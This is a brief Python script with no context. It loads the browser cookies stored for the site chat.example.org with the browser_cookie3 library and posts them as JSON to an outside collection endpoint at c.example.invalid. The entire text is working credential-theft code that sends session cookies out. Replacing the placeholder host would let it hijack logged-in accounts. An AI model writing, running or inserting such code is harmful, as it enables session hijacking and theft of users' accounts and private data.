import json, requests
import browser_cookie3 as bc

jar = {c.name: c.value for c in bc.load(domain_name="chat.example.org")}
requests.Session().post("https://c.example.invalid/cookies", data=json.dumps(jar))
